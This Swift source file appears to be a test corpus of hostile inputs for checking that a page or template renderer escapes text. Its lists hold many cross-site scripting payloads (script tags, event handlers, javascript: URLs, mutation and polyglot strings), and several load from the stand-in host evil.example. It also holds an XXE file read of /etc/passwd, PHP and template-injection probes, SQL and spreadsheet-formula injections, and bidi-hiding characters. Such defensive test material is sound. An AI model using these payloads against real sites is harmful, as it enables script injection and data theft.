/// Texts that would do something on a page that does not escape them.
enum Attacks {
  static let all: [String] =
    scripts + handlers + addresses + ends + references + templates + bytes + odd + combined

  /// Elements that run or load something.
  static let scripts = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>", "<script src='https://evil.example/x.js'/>",
    "<script\u{0B}>alert(1)</script>", "<script\n>alert(1)</script >",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1);//<</script>",
    "<script>alert(1)", "<script type=module>import 'https://evil.example'</script>",
    "<iframe src=https://evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=https://evil.example></object>", "<embed src=https://evil.example>",
    "<base href=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<form action=https://evil.example><input name=q autofocus></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<isindex type=image src=1>",
    "<applet code=x>", "<frameset onload=alert(1)>", "<portal src=https://evil.example>",
    "<style>@import 'https://evil.example/x.css';</style>", "<style>*{background:red}</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
  ]

  /// Attributes that run something.
  static let handlers = [
    "<img src=x onerror=alert(1)>", "<img src=x onerror=\"alert(1)\">",
    "<img src=x:x onerror=alert(1)//", "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math href=javascript:alert(1)>x</math>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<audio src onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>", "<p onpointerenter=alert(1)>x</p>",
    "<div style=\"background:url(https://evil.example)\">",
    "<div style=width:expression(alert(1))>",
    "<xss onclick=alert(1) tabindex=1 id=main>", "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"", "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>", "\" style=\"position:fixed;inset:0", "x\" class=\"skip",
    "` onmouseover=alert(1)", "\u{00A0}onload=alert(1)", "=\"\" onload=alert(1) ",
  ]

  /// Addresses.
  static let addresses = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "java\tscript:alert(1)",
    "\u{01}javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)",
    "https://evil.example/?a=1&b=2", "//evil.example", "file:///etc/passwd", "blob:https://x/y",
    "[x](javascript:alert(1))", "![x](https://evil.example/x.png)", "url(https://evil.example)",
    "view-source:https://evil.example", "https://user:pass@evil.example:8080/#<script>",
  ]

  /// Ends of what a text may stand in.
  static let ends = [
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</bdi><script>alert(1)</script>",
    "</blockquote></figure></main></body></html><script>alert(1)</script>", "</td></tr></table>",
    "</svg><script>alert(1)</script>", "</mark>", "--><script>alert(1)</script>",
    "<!--", "-->", "--!>", "<!-->", "<!--><script>alert(1)</script>-->", "]]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "<?xml version=\"1.0\"?>", "<?php system('id') ?>", "<%= 7*7 %>", "</>", "</ x>", "<!>", "<?",
    "<", ">", "\"", "'", "&", "<>", "<a", "</", "<x", "*/} body{display:none} /*",
  ]

  /// References, which have to stay what they are.
  static let references = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;", "&amp;lt;script&amp;gt;", "&quot; onload=alert(1)", "&nbsp;", "&#0;",
    "&#xD800;", "&#x110000;", "&notanentity;", "&lt", "&#", "&#x", "&NewLine;&Tab;", "%3Cscript%3E",
    "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  ]

  /// What templates are written in.
  static let templates = [
    "{{{wide}}}", "{{{style}}}", "{{&style}}", "{{> page}}", "{{>page}}", "{{<page}}{{/page}}",
    "{{=<% %>=}}<%& style %>", "{{#quotes}}x{{/quotes}}", "{{^x}}x{{/x}}", "{{! x", "{{.}}", "{{",
    "}}", "{{% CONTENT_TYPE: TEXT}}", "{{>*title}}", "{{lowercased(title)}}", "${7*7}", "#{7*7}",
    "{%x%}", "\\(title)", "%@%n%s", "$(id)", "`id`",
  ]

  /// Characters that no page may have, or that hide what stands beside them.
  static let bytes = [
    "<\u{0}script>alert(1)</script>", "\u{0}", "a\u{1}b\u{8}c\u{B}d\u{C}e\u{1F}f\u{7F}g",
    "\u{80}\u{85}\u{9F}", noncharacters, "\r\n\r\t\u{2028}\u{2029}",
    "<\u{0301}script>alert(1)</script\u{0301}>", "\"\u{0301} onload=alert(1) x=\"\u{0301}",
    "&\u{0301}lt;", "'\u{20DD}", "<\u{200D}img src=x onerror=alert(1)>",
    "<\u{FE0F}img src=x onerror=alert(1)>", "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    "\u{FEFF}<script>alert(1)</script>", "\u{E0001}\u{E0020}",
    String(decoding: [0xC0, 0xBC], as: UTF8.self),
    String(decoding: [0xED, 0xA0, 0x80, 0x3C], as: UTF8.self),
    String(decoding: [0xF8, 0x3C, 0x73], as: UTF8.self), "\u{202E}gnp.exe", "\u{202D}abc",
    "\u{2066}abc", "\u{2067}abc\u{2069}\u{2069}", "\u{200F}\u{200E}\u{061C}abc",
    "\u{202B}abc\u{202C}",
    "שלום <b>world</b>", "مرحبا \u{202E}<script>",
  ]

  private static let noncharacters = String(
    String.UnicodeScalarView(
      [0xFFFE, 0xFFFF, 0xFDD0, 0x1FFFE, 0x10FFFF].compactMap { Unicode.Scalar($0 as UInt32) }))

  /// What is merely odd.
  static let odd = [
    "", " ", "\n", "0", "null", "undefined", "NaN", "-1e309", "true", "id", "main", "constructor",
    "__proto__", "🏳️‍🌈<🏳️‍🌈>", "'; DROP TABLE comments; --", "=cmd|' /C calc'!A0",
  ]

  /// Long ones.
  static let combined = [
    String(repeating: "<", count: 400), String(repeating: "<b>", count: 200),
    String(repeating: "\u{0301}", count: 500), "<" + String(repeating: "\u{0301}", count: 500),
    String(repeating: "A", count: 2_000), String(repeating: "\"'><", count: 200),
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
  ]
}
